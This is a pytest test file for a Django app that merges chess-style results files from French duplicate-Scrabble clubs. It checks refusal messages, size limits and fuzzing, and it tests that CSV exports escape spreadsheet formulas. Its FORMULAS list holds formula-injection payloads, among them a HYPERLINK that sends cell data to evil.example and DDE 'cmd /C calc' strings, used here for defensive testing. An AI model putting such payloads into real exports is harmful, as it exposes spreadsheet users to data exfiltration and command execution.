"""Hold the door: the clubs' results files of a merge, and what leaves the room as cells.

A results file is read as strictly as a prepared game: any file is merged or refused with a sentence
naming it (French and English), never a 500 on the merge, its page or its exports; each limit holds
just under and refuses just over.  Every CSV-like export (the ranking CSV, the federation's file, of a
game, a tournament or a merge) writes a text a spreadsheet would run as a text, and numbers as numbers.
"""

from __future__ import annotations

import copy
import csv
import html
import io
import json
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from clubs.access import first_club
from live import services as live_services
from results import exports, merges, reading
from results.merges import MergeError
from results.models import MergedResults
from tournaments import services
from tournaments.models import Round

GAME = json.loads(
    (Path(__file__).resolve().parents[1] / "data" / "reference-games" / "game-001.json").read_text()
)
TOPS = [r["score"] for r in GAME["rounds"]]
MB = 1024 * 1024
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
#: Cells a spreadsheet would run, as OWASP lists their first characters.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]


def _player(number: int, paid: list[int] | None = None, **changes) -> dict:
    player = {
        "name": f"Joueur {number}",
        "club": "",
        "series": "",
        "category": "",
        "table": number % 9999 + 1,
        "scores": [[p, False] for p in (paid if paid is not None else [0] * len(TOPS))],
    }
    return {**player, **changes}


def _results(club: str, players: int = 2, **changes) -> dict:
    """A results file as ``exports.results_export`` writes it, around reference game 1: the first
    player is paid every top, the others nothing."""
    data = {
        "format": exports.RESULTS_FORMAT,
        "club": club,
        "tournament": "Simultané",
        "date": "2026-11-20",
        "lexicon": {"name": "fr-wfrench", "sha256": "ab" * 32},
        "settings": {
            "solo_value": 10,
            "solo_min_players": 16,
            "warning_threshold": 3,
            "warning_penalty": 5,
            "percent_base": "total",
            "tie_break": "none",
            "grading": "fisf",
            "round_seconds": 180,
            "grace_seconds": 2,
        },
        "game": copy.deepcopy(GAME),
        "players": [_player(n, TOPS if n == 0 else None) for n in range(players)],
    }
    data.update(changes)
    return data


def _bytes(obj: dict) -> bytes:
    return json.dumps(obj, separators=(",", ":")).encode()


def _files(*objects) -> list[tuple[str, bytes]]:
    return [(f"club-{chr(97 + n)}.json", _bytes(obj)) for n, obj in enumerate(objects)]


def _refusal(files) -> MergeError:
    with pytest.raises(MergeError) as refused:
        merges.results_merge(files)
    return refused.value


def _post(client, files: list[tuple[str, bytes]]):
    uploads = [SimpleUploadedFile(name, data, content_type="application/json") for name, data in files]
    return client.post(reverse("results:merge_create"), {"files": uploads})


def _text(response) -> str:
    return html.unescape(response.content.decode())


# -- what is refused, and how it is said ----------------------------------------------------------


def _set(path: str, value):
    """A change of the second file: ``value`` at ``path`` (keys and indexes, dotted)."""

    def change(obj: dict) -> None:
        *parents, last = path.split(".")
        for key in parents:
            obj = obj[int(key)] if isinstance(obj, list) else obj[key]
        obj[int(last) if isinstance(obj, list) else last] = value

    return change


#: A number too long to quote whole: the refusal quotes its start.
BIG = "1" + "0" * 38 + "…"
REFUSALS = [
    (
        "settings.percent_base",
        ["total"],
        "le réglage « percent_base » vaut « ['total'] » ; attendu : total, paid.",
    ),
    (
        "settings.tie_break",
        {"a": 1},
        "le réglage « tie_break » vaut « {'a': 1} » ; attendu : none, last, tops.",
    ),
    ("settings.round_seconds", 90, "le réglage « round_seconds » vaut « 90 » ; attendu : 180, 150, 120, 60."),
    ("settings.round_seconds", "180", "le réglage « round_seconds » vaut « 180 » ; attendu"),
    ("settings.solo_value", 10**300, f"le réglage « solo_value » vaut « {BIG} »"),
    ("settings.solo_value", -1, "le réglage « solo_value » vaut « -1 » ; attendu : 0 – 32767."),
    ("settings.warning_penalty", True, "le réglage « warning_penalty » vaut « True »"),
    ("settings.grace_seconds", 1.5, "le réglage « grace_seconds » vaut « 1.5 »"),
    ("settings.aggregate", "average", "a une clé inconnue : « aggregate »."),
    ("settings", ["total"], "(« settings » manque ou est illisible)."),
    ("players.0.scores.0", [10**300, False], f"joueur 1 : coup 1, score {BIG} hors de 0 à 30 (le top)."),
    ("players.0.scores.5", [93, False], "joueur 1 : coup 6, score 93 hors de 0 à 92 (le top)."),
    ("players.1.scores.0", [-1, True], "joueur 2 : coup 1, score -1 hors de 0 à 30 (le top)."),
    ("players.1.scores.0", [1.0, True], "(« scores » manque ou est illisible)."),
    ("players.1.name", "Eve\x00", "joueur 2 : « name » contient un caractère interdit (U+0000)."),
    ("players.1.name", "\ud800", "joueur 2 : « name » contient un caractère interdit (U+D800)."),
    ("players.1.club", "Lyon\x1b[2J", "joueur 2 : « club » contient un caractère interdit (U+001B)."),
    ("players.1.name", "N" * 121, "joueur 2 : « name » a plus de 120 caractères."),
    ("players.1.series", "4AAAA", "joueur 2 : « series » a plus de 4 caractères."),
    ("players.1.name", "  ", "joueur 2 : nom vide."),
    ("players.1.category", "Z", "joueur 2 : catégorie « Z » inconnue."),
    ("players.1.table", 0, "joueur 2 : table 0 hors de 1 à 9999."),
    ("players.1.table", 2**31, "joueur 2 : table 2147483648 hors de 1 à 9999."),
    ("players.1.table", "3", "(« table » manque ou est illisible)."),
    ("players.1.email", "a@b.fr", "a une clé inconnue : « email »."),
    ("players.1", ["Eve"], "(« players » manque ou est illisible)."),
    ("club", "Club\ud800", "« club » contient un caractère interdit (U+D800)."),
    ("tournament", "T" * 121, "« tournament » a plus de 120 caractères."),
    ("tournament", ["Simultané"], "(« tournament » manque ou est illisible)."),
    ("date", "2026-13-01", "date « 2026-13-01 » illisible (AAAA-MM-JJ)."),
    ("date", "20261120", "date « 20261120 » illisible (AAAA-MM-JJ)."),
    ("lexicon.sha256", "xyz", "(« sha256 » manque ou est illisible)."),
    ("lexicon.name", "L" * 81, "« name » a plus de 80 caractères."),
    ("lexicon.url", "http://evil.example", "a une clé inconnue : « url »."),
    ("extra", 1, "a une clé inconnue : « extra »."),
]


@pytest.mark.parametrize(("path", "value", "said"), REFUSALS)
def test_a_file_out_of_its_format_is_refused_naming_the_file_and_why(path, value, said):
    other = _results("B")
    _set(path, value)(other)
    refusal = _refusal(_files(_results("A"), other))
    french = refusal.message.text("fr")
    assert french.startswith("Le fichier « club-b.json »") and said in french, french
    assert "'club-b.json'" in refusal.message.text("en")


def test_a_refusal_reads_in_english_too():
    other = _results("B")
    _set("players.0.scores.5", [93, False])(other)
    assert _refusal(_files(_results("A"), other)).message.text("en") == (
        "The file 'club-b.json', player 1: round 6, score 93 is not between 0 and 92 (the top)."
    )
    _set("settings.percent_base", ["total"])(other)
    assert _refusal(_files(_results("A"), other)).message.text("en") == (
        "The file 'club-b.json': the setting 'percent_base' is '['total']'; expected: total, paid."
    )


def test_a_key_given_twice_is_refused():
    text = _bytes(_results("B")).replace(b'"club":"B"', b'"club":"B","club":"C"')
    refusal = _refusal([*_files(_results("A")), ("club-b.json", text)])
    assert refusal.message.text("fr") == "Le fichier « club-b.json » donne deux fois « club »."


def test_a_top_no_move_can_score_is_refused():
    other = _results("B")
    other["game"]["rounds"][2]["score"] = 25_001
    other["game"]["total"] = sum(r["score"] for r in other["game"]["rounds"])
    assert _refusal(_files(_results("A"), other)).message.text("fr") == (
        "Le fichier « club-b.json » : le top du coup 3 dépasse 25000 points."
    )


def test_a_game_title_with_a_control_character_is_refused():
    other = _results("B")
    other["game"]["title"] = "Simultané\x00"
    refusal = _refusal(_files(_results("A"), other))
    assert refusal.message.code in ("merge_char", "merge_game_invalid")
    assert "« club-b.json »" in refusal.message.text("fr")


def test_a_file_name_that_cannot_be_shown_is_shown_cleaned():
    refusal = _refusal([("a.json", _bytes(_results("A"))), ("b\ud800\x00.json", b"{")])
    assert refusal.message.text("fr") == "Le fichier « b��.json » n'est pas un fichier JSON lisible."


# -- the limits: just under, just over ------------------------------------------------------------


def test_a_merge_of_the_file_limit_is_made_and_one_more_file_is_refused(arbiter_client):
    files = _files(*(_results(f"Club {n}", players=1) for n in range(reading.MAX_FILES)))
    assert reading.MAX_FILES == 50
    assert len(merges.results_merge(files).clubs) == 50
    too_many = [*files, ("club-51.json", files[0][1])]
    assert _refusal(too_many).message.text("fr") == "Une fusion prend au plus 50 fichiers (ici 51)."
    response = _post(arbiter_client, too_many)
    assert "Une fusion prend au plus 50 fichiers (ici 51)." in _text(response)
    assert not MergedResults.objects.exists()


def _padded(obj: dict, size: int) -> bytes:
    data = _bytes(obj)
    return data[:-1] + b" " * (size - len(data)) + data[-1:]


def test_a_file_of_the_size_limit_is_read_and_one_byte_more_is_refused(arbiter_client):
    limit = reading.MAX_FILE_MB * MB
    files = _files(_results("A"))
    assert merges.results_merge([*files, ("club-b.json", _padded(_results("B"), limit))])
    over = [*files, ("club-b.json", _padded(_results("B"), limit + 1))]
    said = "Le fichier « club-b.json » est trop gros : au plus 5 Mo par fichier."
    assert _refusal(over).message.text("fr") == said
    assert said in _text(_post(arbiter_client, over))
    assert not MergedResults.objects.exists()


def test_files_of_the_total_size_limit_are_read_and_one_byte_more_is_refused(arbiter_client):
    each = reading.MAX_ALL_MB * MB // 4
    files = [(f"club-{n}.json", _padded(_results(f"C{n}"), each)) for n in range(4)]
    assert sum(len(data) for _name, data in files) == reading.MAX_ALL_MB * MB
    assert len(merges.results_merge(files).clubs) == 4
    over = [*files, ("club-4.json", _bytes(_results("C4")))]
    said = "Les fichiers sont trop gros ensemble : au plus 20 Mo en tout."
    assert _refusal(over).message.text("fr") == said
    assert said in _text(_post(arbiter_client, over))


def test_a_file_of_the_player_limit_is_read_and_one_player_more_is_refused():
    limit = reading.MAX_FILE_PLAYERS
    full = _results("B", players=limit)
    assert len(merges.results_merge(_files(_results("A"), full)).entrants) == limit + 2
    full["players"].append(_player(limit))
    assert _refusal(_files(_results("A"), full)).message.text("fr") == (
        "Le fichier « club-b.json » a 3001 joueurs : au plus 3000 par fichier."
    )


def test_a_merge_of_the_players_limit_is_made_and_one_player_more_is_refused():
    sizes = [3000, 3000, 3000, 1000]
    assert sum(sizes) == reading.MAX_PLAYERS == 10_000
    files = _files(*(_results(f"C{n}", players=size) for n, size in enumerate(sizes)))
    assert len(merges.results_merge(files).entrants) == 10_000
    files[3] = ("club-d.json", _bytes(_results("C3", players=1001)))
    assert _refusal(files).message.text("fr") == (
        "Avec le fichier « club-d.json », la fusion dépasse 10000 joueurs en tout."
    )


@pytest.mark.parametrize(
    ("path", "good", "bad"),
    [
        ("players.1.scores.5", [92, True], [93, True]),
        ("players.1.scores.5", [0, False], [-1, False]),
        ("players.1.table", 9999, 10_000),
        ("players.1.table", 1, 0),
        ("players.1.name", "N" * 120, "N" * 121),
        ("players.1.club", "C" * 120, "C" * 121),
        ("players.1.series", "4AAA", "4AAAA"),
        ("club", "C" * 120, "C" * 121),
        ("settings.solo_min_players", 32_767, 32_768),
        ("settings.warning_threshold", 0, -1),
    ],
)
def test_each_value_is_taken_up_to_its_bound_and_refused_past_it(path, good, bad):
    for value, merged in ((good, True), (bad, False)):
        other = _results("B")
        _set(path, value)(other)
        if merged:
            assert merges.results_merge(_files(_results("A"), other))
        else:
            assert "« club-b.json »" in _refusal(_files(_results("A"), other)).message.text("fr")


# -- fuzz: a file is merged or refused, never a 500, never half kept -----------------------------

_HOSTILE = st.one_of(
    st.sampled_from(
        [
            None,
            True,
            False,
            0,
            -1,
            1.5,
            float("nan"),
            10**300,
            -(10**300),
            2**31,
            2**63,
            "",
            " ",
            "\x00",
            "\ud800",
            "\udfff",
            '=HYPERLINK("x")',
            "N" * 200,
            [],
            {},
            [1, 2],
            [0, False],
            {"a": 1},
            "total",
            "paid",
            "last",
            "fisf",
            180,
            60,
            "2026-02-30",
            "V",
            "Vermeil",
            "ab" * 32,
        ]
    ),
    st.text(max_size=15),
    st.integers(),
    st.lists(st.integers(min_value=-5, max_value=100), max_size=3),
)


def _paths(obj, prefix: str = "") -> list[str]:
    """Every key and index of a results file, but only the first rounds of its game."""
    if isinstance(obj, dict):
        items = obj.items()
    elif isinstance(obj, list):
        items = list(enumerate(obj))[:3]
    else:
        return []
    found = []
    for key, value in items:
        path = f"{prefix}{key}"
        found += [path, *_paths(value, path + ".")]
    return found


PATHS = _paths(_results("B"))


def _mutated(changes: list[tuple[str, str, object]]) -> dict:
    other = _results("B")
    for action, path, value in changes:
        *parents, last = path.split(".")
        target = other
        try:
            for key in parents:
                target = target[int(key)] if isinstance(target, list) else target[key]
            key = int(last) if isinstance(target, list) else last
            if action == "drop":
                del target[key]
            elif action == "add" and isinstance(target, dict):
                target[f"{last}_extra"] = value
            else:
                target[key] = value
        except (KeyError, IndexError, TypeError, ValueError):
            continue  # an earlier change removed the way there
    return other


_CHANGES = st.lists(
    st.tuples(st.sampled_from(["set", "set", "drop", "add"]), st.sampled_from(PATHS), _HOSTILE),
    min_size=1,
    max_size=3,
)


def _merged_or_refused(client, files: list[tuple[str, bytes]]) -> None:
    before = MergedResults.objects.count()
    response = _post(client, files)
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert MergedResults.objects.count() == before
        assert 'role="alert"' in response.content.decode()
        return
    assert MergedResults.objects.count() == before + 1
    merged = MergedResults.objects.order_by("-id").first()
    assert client.get(response["Location"]).status_code == 200
    for what in ("csv", "federation", "pdf"):
        answer = client.get(reverse("results:merge_export", args=[merged.pk, what]))
        assert answer.status_code == 200, what


@FUZZ
@given(changes=_CHANGES)
@example(changes=[("set", "settings.percent_base", ["total"])])
@example(changes=[("set", "players.0.scores.0", [10**300, False])])
@example(changes=[("set", "players.1.name", "\ud800")])
@example(changes=[("set", "players.1.name", '=HYPERLINK("x")')])
@example(changes=[("drop", "settings", None)])
def test_any_change_to_a_results_file_is_merged_or_refused(arbiter_client, changes):
    other = _mutated(changes)
    _merged_or_refused(arbiter_client, [*_files(_results("A")), ("club-b.json", _bytes(other))])


@FUZZ
@given(data=st.one_of(st.binary(max_size=2000), st.text(max_size=200).map(str.encode)))
@example(data=b"[" * 100_000)
@example(data=b'{"format": "duplicate-results/1", "players": ' + b"[" * 50_000)
@example(data=b"1" * 5000)
@example(data=b"\xef\xbb\xbf{}")
def test_any_bytes_as_a_results_file_are_refused(arbiter_client, data):
    _merged_or_refused(arbiter_client, [*_files(_results("A")), ("club-b.json", data)])


def test_a_merge_kept_before_the_checks_that_no_longer_reads_is_said_not_a_500(arbiter_client, arbiter):
    other = _results("B")
    other["players"][1]["scores"][0] = [10**300, False]
    files = [{"name": name, "data": data.decode()} for name, data in _files(_results("A"), other)]
    merged = MergedResults.objects.create(created_by=arbiter, owner=first_club(), files=files)
    for url in (
        reverse("results:merge_detail", args=[merged.pk]),
        reverse("results:merge_export", args=[merged.pk, "csv"]),
    ):
        response = arbiter_client.get(url, follow=True)
        assert response.status_code == 200
        assert "Cette fusion ne se relit plus : Le fichier « club-b.json », joueur 2" in _text(response)


# -- exports: a name never runs in a spreadsheet ------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_a_spreadsheet_would_run_is_written_after_an_apostrophe(text):
    assert exports.spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Alice", "Zoé l'Aînée", "4B", "O'Brien", "a=b", "Anne-Marie", "5", " "])
def test_a_plain_text_is_written_as_it_is(text):
    assert exports.spreadsheet_text(text) == text


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _federation(data: bytes) -> list[list[str]]:
    return [line.split(";") for line in data.decode("latin-1").split("\r\n") if line]


@pytest.fixture
def hostile_game(tournament):
    """A played round of reference game 1 in a club whose players are named like formulas (and
    whose clubs are); the first plays the top, the others nothing: their négatif is minus the top."""
    players = [
        services.player_register(tournament=tournament, name=name.strip() or name, club=club)
        for name, club in zip(FORMULAS, ["=1+1", "@A1", "+1", "-1", "\t=1", "Lyon", "＠A1", " =1"])
    ]
    game = services.game_start(tournament=tournament, prepared=json.dumps(GAME))
    rnd = services.round_draw(game_id=game.pk, expected_number=1).round
    rnd = services.round_start(round_id=rnd.pk)
    top = rnd.tops[0]
    live_services.submission_record(
        player=players[0], round_id=rnd.pk, text=f"{top['ref']} {top['word']} {top['score']}"
    )
    services.round_close(round_id=rnd.pk)
    services.round_place_top(round_id=rnd.pk)
    assert Round.objects.get(pk=rnd.pk).top_score == 30
    return game


def _assert_safe(cells: list[str]) -> None:
    for cell in cells:
        start = cell.lstrip(" \u00a0")[:1]
        assert not start or start not in "=+-@\t\r\n\x00＝＋－＠" or cell.lstrip("-").isdigit(), cell


@pytest.mark.parametrize("route", ["game", "tournament"])
def test_the_ranking_csv_writes_formulas_as_text_and_the_negatif_as_a_number(
    arbiter_client, hostile_game, route
):
    pk = hostile_game.pk if route == "game" else hostile_game.tournament_id
    data = arbiter_client.get(reverse(f"results:{route}_export", args=[pk, "csv"])).content
    header, *rows = _csv(data)
    name, club, negatif = header.index("Nom"), header.index("Club"), header.index("Négatif")
    assert sorted(row[name] for row in rows) == sorted("'" + text.strip() for text in FORMULAS)
    stored = hostile_game.tournament.players.values_list("club", flat=True)
    assert sorted(row[club] for row in rows) == sorted(c if c == "Lyon" else "'" + c for c in stored)
    assert sorted(row[negatif] for row in rows) == ["-30"] * 7 + ["0"]
    for row in [header, *rows]:
        _assert_safe(row)


@pytest.mark.parametrize("route", ["game", "tournament"])
def test_the_federation_file_writes_formulas_as_text(arbiter_client, hostile_game, route):
    pk = hostile_game.pk if route == "game" else hostile_game.tournament_id
    lines = _federation(
        arbiter_client.get(reverse(f"results:{route}_export", args=[pk, "federation"])).content
    )
    assert len(lines) == 8 and all(len(line) == 5 for line in lines)
    for table, licence, name, club, score in lines:
        assert table.isdigit() and score.isdigit() and licence == "NL" and name.startswith("'"), name
        assert club == "Lyon" or club.startswith("'"), club
    assert "'=1+1" in [name for _table, _licence, name, _club, _score in lines]  # full-width, in Latin-1


def test_names_from_another_clubs_merged_file_are_written_as_text_in_every_export(arbiter_client):
    """A results file's texts hold no control character (the tab and CR formulas are refused)."""
    texts = [text for text in FORMULAS if text[0] not in "\t\r"]
    other = _results('=HYPERLINK("http://evil.example")', players=len(texts))
    for number, text in enumerate(texts):
        other["players"][number].update(name=text, club=text)
    response = _post(arbiter_client, _files(_results("A"), other))
    merged = MergedResults.objects.get()
    assert response["Location"] == reverse("results:merge_detail", args=[merged.pk])
    csv_data = arbiter_client.get(reverse("results:merge_export", args=[merged.pk, "csv"])).content
    header, *rows = _csv(csv_data)
    names = [row[header.index("Nom")] for row in rows]
    assert set(names) >= {"'" + text for text in texts}
    assert {row[header.index("Négatif")] for row in rows} == {"0", f"-{sum(TOPS)}"}
    for row in rows:
        _assert_safe(row)
    federation = arbiter_client.get(reverse("results:merge_export", args=[merged.pk, "federation"])).content
    for _table, _licence, name, _club, _score in _federation(federation):
        assert name.startswith("'") or name.startswith("Joueur"), name
